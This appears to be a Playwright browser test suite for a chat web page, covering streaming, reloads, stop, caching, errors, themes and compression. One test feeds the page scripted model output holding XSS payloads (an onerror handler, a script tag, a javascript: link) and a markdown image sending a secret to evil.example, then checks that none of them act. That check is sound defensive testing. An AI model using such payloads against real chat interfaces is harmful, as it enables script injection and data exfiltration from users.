"""The chat page in a real browser, against a real server whose model the test holds by its gates."""

import asyncio
from pathlib import Path

import pytest
from playwright.async_api import Page, Response, Route, expect
from serving import Headwater, headwater, until

from headwater.errors import ModelError
from headwater.events import Continued, Finish, TextDelta, Usage
from headwater.models.scripted import SILENCE, Scripted
from headwater.web.response import Pace

pytestmark = pytest.mark.browser

QUICK = Pace(hold=0.05)


async def ask(page: Page, server: Headwater, question: str = "Hello?") -> None:
    """Open the page and send a question."""
    await page.goto(str(server.client.base_url))
    await page.get_by_test_id("composer").fill(question)
    await page.get_by_test_id("send").click()


async def test_an_answer_is_watched_as_it_arrives(page: Page) -> None:
    """Each token is on the page while the next one is still unmade; then come its figures."""
    second, third = asyncio.Event(), asyncio.Event()
    model = Scripted(
        [TextDelta("One"), second, TextDelta(" two"), third, TextDelta(" three"), Finish("stop", Usage(5, 3))]
    )
    async with headwater(model, pace=QUICK) as server:
        await ask(page, server)
        answer = page.get_by_test_id("message-assistant")
        await expect(answer).to_have_attribute("data-state", "streaming")
        await expect(answer).to_contain_text("One")
        await expect(answer).not_to_contain_text("two")
        second.set()
        await expect(answer).to_contain_text("One two")
        third.set()
        await expect(answer).to_contain_text("One two three")
        await expect(answer).to_have_attribute("data-state", "finished")
        await page.get_by_test_id("facts").click()
        await expect(page.get_by_test_id("stats")).to_be_visible()
        await expect(page.get_by_test_id("message-user")).to_contain_text("Hello?")


async def test_a_reload_in_mid_answer_goes_on_at_the_exact_token(page: Page) -> None:
    """No token is lost or doubled, and the model is called once."""
    rest = asyncio.Event()
    model = Scripted([TextDelta("One"), TextDelta(" two"), rest, TextDelta(" three"), Finish("stop")])
    async with headwater(model, pace=QUICK) as server:
        await ask(page, server)
        answer = page.get_by_test_id("message-assistant")
        await expect(answer).to_contain_text("One two")

        await page.reload()

        await expect(answer).to_contain_text("One two")
        rest.set()
        await expect(answer).to_have_attribute("data-state", "finished")
        assert (await answer.inner_text()).count("One two three") == 1
    assert len(model.prompts) == 1


async def test_an_answer_that_finished_while_the_page_was_away_is_whole_on_return(page: Page) -> None:
    """Closing the tab wastes nothing."""
    rest = asyncio.Event()
    model = Scripted([TextDelta("One"), rest, TextDelta(" two"), Finish("stop")])
    async with headwater(model, pace=QUICK) as server:
        await ask(page, server)
        await expect(page.get_by_test_id("message-assistant")).to_contain_text("One")
        await page.goto("about:blank")
        rest.set()
        await until(lambda: model.running == 0, "the answer is finished with nobody reading")

        await page.go_back()

        answer = page.get_by_test_id("message-assistant")
        await expect(answer).to_contain_text("One two")
        await expect(answer).to_have_attribute("data-state", "finished")


async def test_stop_keeps_the_part_and_ends_the_model(page: Page) -> None:
    """The button reaches the server, not merely the connection."""
    model = Scripted([TextDelta("Part of it"), SILENCE])
    async with headwater(model, pace=QUICK) as server:
        await ask(page, server)
        await expect(page.get_by_test_id("message-assistant")).to_contain_text("Part of it")

        await page.get_by_test_id("stop").click()

        await expect(page.get_by_test_id("message-assistant")).to_have_attribute("data-state", "stopped")
        await expect(page.get_by_test_id("message-assistant")).to_contain_text("Part of it")
        await until(lambda: model.running == 0, "the model was ended")


async def test_a_cached_answer_is_marked_and_regenerate_goes_around_the_cache(page: Page) -> None:
    """The same question in a new chat is answered from the log; the button calls the model again."""
    model = Scripted([TextDelta("Paris."), Finish("stop")])
    async with headwater(model, pace=QUICK) as server:
        await ask(page, server, "Capital of France?")
        answer = page.get_by_test_id("message-assistant")
        await expect(answer).to_have_attribute("data-state", "finished")
        await expect(page.get_by_test_id("cached-badge")).to_have_count(0)

        await page.get_by_test_id("new-chat").click()
        await ask(page, server, "Capital of France?")
        await expect(page.get_by_test_id("cached-badge")).to_be_visible()
        assert len(model.prompts) == 1

        await page.get_by_test_id("regenerate").click()
        await until(lambda: len(model.prompts) == 2, "the model is asked again")
        await expect(answer).to_have_attribute("data-state", "finished")
        await expect(page.get_by_test_id("cached-badge")).to_have_count(0)


async def test_a_failure_is_shown_with_a_way_to_try_again(page: Page) -> None:
    """The page shows the `detail` of the problem JSON."""
    model = Scripted([ModelError("The provider is out of coffee.", status=502)])
    async with headwater(model, pace=QUICK) as server:
        await ask(page, server)
        await expect(page.get_by_test_id("error")).to_contain_text("out of coffee")

        await page.get_by_test_id("retry").click()

        await until(lambda: len(model.prompts) == 2, "the question is sent again")
        await expect(page.get_by_test_id("error")).to_contain_text("out of coffee")


async def test_model_output_cannot_act_on_the_page(page: Page) -> None:
    """No script runs, no address of the model's choice is called, no `javascript:` link is left."""
    evil = (
        "<img src=x onerror=\"document.title='owned'\"> <script>document.title='owned'</script> "
        "[click](javascript:document.title='owned') ![x](https://evil.example/leak.png?q=secret) **bold**"
    )
    calls: list[str] = []
    page.on("request", lambda request: calls.append(request.url))
    async with headwater(Scripted([TextDelta(evil), Finish("stop")]), pace=QUICK) as server:
        await ask(page, server)
        answer = page.get_by_test_id("message-assistant")
        await expect(answer).to_have_attribute("data-state", "finished")
        await expect(answer.locator("strong")).to_have_text("bold")

        assert await page.title() != "owned"
        assert await answer.locator("a[href^='javascript']").count() == 0
        assert await answer.locator("script").count() == 0
        assert all(url.startswith(str(server.client.base_url)) for url in calls), calls


MARKDOWN = """### A spring

Water **returns** to the light where the rock lets it:

1. rain sinks into the hill,
2. the clay stops it,
3. it finds the way out.

| source | litres/s |
|---|---|
| Headwater | 12 |

```python
for drop in river:
    print(drop)
```
"""


@pytest.mark.parametrize(
    ("name", "scheme", "width"), [("light", "light", 1100), ("dark", "dark", 1100), ("phone", "light", 390)]
)
async def test_the_page_is_itself_in_light_dark_and_on_a_phone(
    page: Page, name: str, scheme: str, width: int, tmp_path: Path
) -> None:
    """It follows the system's scheme, nothing is wider than the screen, and there is a picture to look at.

    Its answer broke off once, which a note says that is neither alarming nor too pale to read.
    """
    cut = MARKDOWN.index("the light")
    seam = [Continued("provider", "prefill", "1-2"), TextDelta(MARKDOWN[cut:])]
    async with headwater(
        Scripted([TextDelta(MARKDOWN[:cut]), seam, Finish("stop", Usage(20, 60))]), pace=QUICK
    ) as server:
        await page.set_viewport_size({"width": width, "height": 800})
        await page.emulate_media(color_scheme="dark" if scheme == "dark" else "light")
        await ask(page, server, "Tell me about springs")
        await expect(page.get_by_test_id("message-assistant")).to_have_attribute("data-state", "finished")
        await expect(page.get_by_role("note")).to_have_text("The provider broke off here; the answer goes on.")
        await page.screenshot(path=tmp_path / f"{name}.png")

        brightness = await page.evaluate(
            "getComputedStyle(document.documentElement).backgroundColor.match(/\\d+(\\.\\d+)?/g).slice(0,3).reduce((a,b)=>a+Number(b),0)"
        )
        assert (brightness < 300) == (scheme == "dark")
        assert await page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        assert (tmp_path / f"{name}.png").stat().st_size > 10_000


TRANSFERRED = """performance.getEntriesByType('resource').filter(({ name }) => name.includes('/assets/'))
    .map(({ transferSize }) => transferSize)"""


async def test_the_first_visit_is_sent_compressed_and_the_second_not_at_all(page: Page) -> None:
    """The index, the script and the styles come in a quarter of their bytes; the browser keeps the last two."""
    seen: list[Response] = []
    page.on("response", lambda response: seen.append(response))
    async with headwater(Scripted([])) as server:
        await page.goto(str(server.client.base_url))
        await expect(page.get_by_test_id("composer")).to_be_visible()
        index, *assets = [seen[0], *(response for response in seen if "/assets/" in response.url)]
        for response in (index, *assets):
            headers = await response.all_headers()
            # What is smaller fits into one packet as it is.
            assert headers.get("content-encoding") in ("br", "gzip") or int(headers["content-length"]) < 512
        first = await page.evaluate(TRANSFERRED)
        assert len(first) <= 9
        assert 0 < sum(first) < 165_000

        await page.goto(str(server.client.base_url))

        await expect(page.get_by_test_id("composer")).to_be_visible()
        assert set(await page.evaluate(TRANSFERRED)) == {0}


async def test_turns_whose_code_could_not_be_loaded_show_once_it_can(page: Page) -> None:
    """It comes after the composer, and a network may fail in between."""
    asked: list[str] = []

    async def fail_once(route: Route) -> None:
        asked.append(route.request.url)
        await (route.abort() if len(asked) == 1 else route.continue_())

    await page.route("**/assets/turn-list-*.js", fail_once)
    async with headwater(Scripted([TextDelta("A spring"), Finish("stop")])) as server:
        await ask(page, server)
        await expect(page.get_by_test_id("message-assistant")).to_contain_text("A spring", timeout=15_000)
    assert asked
